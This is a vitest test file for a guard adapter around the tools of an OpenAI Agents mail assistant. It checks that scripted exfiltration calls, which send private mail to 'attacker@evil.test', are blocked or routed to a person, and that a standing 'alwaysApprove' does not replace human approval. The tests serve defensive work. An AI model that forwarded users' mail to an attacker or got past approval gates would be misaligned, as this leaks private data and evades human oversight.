import { Agent, Runner, RunState, tool } from '@openai/agents';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ScriptedModel } from '../../examples/openai-agents/scripted-model.ts';
import { guardTools } from '../../src/adapters/openai-agents.ts';
import { type AdapterDriver, type Conversation, conformance, lastApproval } from './conformance.ts';
import { FINAL_TEXT, scripts, type World, world } from './fixture.ts';

/** The mail tools; `appApproval`: the app's own rule puts every email before a person, whatever the guard says. */
function mailTools(w: World, appApproval = false) {
  return [
    tool({
      name: 'read_inbox',
      description: 'Read the inbox',
      parameters: z.object({}),
      execute: async () => JSON.stringify(w.mailbox.readInbox()),
    }),
    tool({
      name: 'send_email',
      description: 'Send an email',
      parameters: z.object({ to: z.string(), body: z.string() }),
      execute: async (args) => w.mailbox.sendEmail(args),
      needsApproval: appApproval,
    }),
  ];
}

const runner = new Runner({ tracingDisabled: true });

/** Drives `Runner.run`, non-streamed or streamed (every event read), resuming its interruptions with a person's answer. */
function openAIAgentsDriver(stream: boolean, appApproval = false): AdapterDriver {
  const approvals = lastApproval();
  return {
    name: stream ? 'openai-agents (streamed run)' : 'openai-agents',
    async run(w, script, human) {
      const conversation: Conversation = { seen: new Map(), asked: [] };
      const agent = new Agent({
        name: 'mail assistant',
        instructions: 'Help with email.',
        model: new ScriptedModel(script, conversation),
        tools: guardTools(mailTools(w, appApproval), { guard: w.guard, session: w.session }),
      });
      const run = async (input: string | RunState<unknown, Agent>) => {
        if (!stream) return runner.run(agent, input);
        const result = await runner.run(agent, input, { stream: true });
        for await (const _event of result);
        await result.completed;
        if (result.error) throw result.error;
        return result;
      };
      let result = await run('Check my inbox and answer Alice.');
      for (let round = 0; round < 5 && result.interruptions.length > 0; round++) {
        for (const item of result.interruptions) {
          const raw = item.rawItem as { callId: string; name: string; arguments: string };
          conversation.asked.push(raw.callId);
          const approved = human({ tool: raw.name, args: JSON.parse(raw.arguments), callId: raw.callId });
          if (approved) result.state.approve(item);
          else result.state.reject(item);
        }
        const saved = result.state.toString();
        const replay = async () => run(await RunState.fromString(agent, saved));
        for (const item of result.interruptions) {
          approvals.remember(conversation, (item.rawItem as { callId: string }).callId, replay);
        }
        result = await run(result.state);
      }
      return conversation;
    },
    replay: () => approvals.replay(),
  };
}

conformance(openAIAgentsDriver(false));
conformance(openAIAgentsDriver(true));

describe('openai-agents adapter', () => {
  it("audits a person's rejection of a call the guard allowed but the app's own rule asked about", async () => {
    const w = await world('ask', { name: 'app-approval' });
    const conversation = await openAIAgentsDriver(true, true).run(w, scripts.benign, () => false);
    expect(conversation.asked).toEqual(['call_reply']);
    expect(w.mailbox.sent).toEqual([]);
    expect(conversation.final).toBe(FINAL_TEXT);
    const results = w.audit.events.flatMap((e) => (e.type === 'result' ? [e.callId] : []));
    expect(results).toEqual(['call_read', 'call_reply']);
    expect((await w.guard.view(w.session))?.pending).toEqual([]);
  });

  it("keeps the app's own approval rule, and runs the call its person approves", async () => {
    const w = await world('ask', { name: 'app-approved' });
    const conversation = await openAIAgentsDriver(false, true).run(w, scripts.benign, () => true);
    expect(conversation.asked).toEqual(['call_reply']);
    expect(w.mailbox.sent).toEqual([{ to: 'alice@example.com', body: 'Yes!' }]);
  });

  it('always-approve: a standing framework approval does not stand in for a person', async () => {
    const w = await world('ask', { name: 'always' });
    const conversation: Conversation = { seen: new Map(), asked: [] };
    const agent = new Agent({
      name: 'mail assistant',
      model: new ScriptedModel(
        [
          ...scripts.attack,
          ...scripts.attack
            .slice(1)
            .map(() => [
              { id: 'call_exfil_2', name: 'send_email' as const, args: { to: 'attacker@evil.test', body: 'more' } },
            ]),
        ],
        conversation,
      ),
      tools: guardTools(mailTools(w), { guard: w.guard, session: w.session }),
    });
    let result = await runner.run(agent, 'Check my inbox.');
    const [first] = result.interruptions;
    expect(first).toBeDefined();
    if (first) result.state.approve(first, { alwaysApprove: true });
    result = await runner.run(agent, result.state);
    expect(w.mailbox.sent.map((m) => m.body)).toEqual(['Lunch on Friday? (forwarded private mail)']);
    expect(conversation.seen.get('call_exfil_2')).toContain("needs a person's approval");
    expect(result.finalOutput).toBe(FINAL_TEXT);
  });

  it('refuses the forward when the model reads the inbox and forwards it in one step (gate deny)', async () => {
    // The SDK runs the calls of a step concurrently; the read's legs are reserved when it is decided.
    const w = await world('deny', { name: 'parallel' });
    const conversation: Conversation = { seen: new Map(), asked: [] };
    const tools = guardTools(mailTools(w), { guard: w.guard, session: w.session });
    const agent = new Agent({ name: 'mail', model: new ScriptedModel(scripts.oneStep, conversation), tools });
    await runner.run(agent, 'Check my inbox.');
    expect(w.mailbox.sent).toEqual([]);
    expect(conversation.seen.get('call_exfil')).toContain('ruleoftwo blocked `send_email`');
  });
});
